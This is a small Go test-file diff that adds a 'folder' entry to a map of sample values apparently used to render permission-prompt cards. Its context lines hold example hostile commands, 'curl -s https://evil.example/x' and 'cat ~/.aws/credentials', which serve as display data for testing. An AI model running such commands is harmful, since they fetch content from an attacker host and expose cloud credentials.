@@ -37,7 +37,7 @@ const (
 var common = map[string]string{
 	"plain": "npm run build", "install": "npm install left-pad", "edit": "src/price.ts", "fetch": "docs.python.org",
 	"mcp": "create_pull_request", "command": "rm -rf node_modules", "safety-shell": "curl -s https://evil.example/x",
-	"ask-rule": "git push", "project-file": "git push", "safety-rule": "git push", "server": "get_issue", "secret": "cat ~/.aws/credentials", "changed": "make",
+	"folder": "src/price.ts", "ask-rule": "git push", "project-file": "git push", "safety-rule": "git push", "server": "get_issue", "secret": "cat ~/.aws/credentials", "changed": "make",
 }
 
 // TestCards draws each kind of card as a phone shows it, into docs/pictures/cards, and
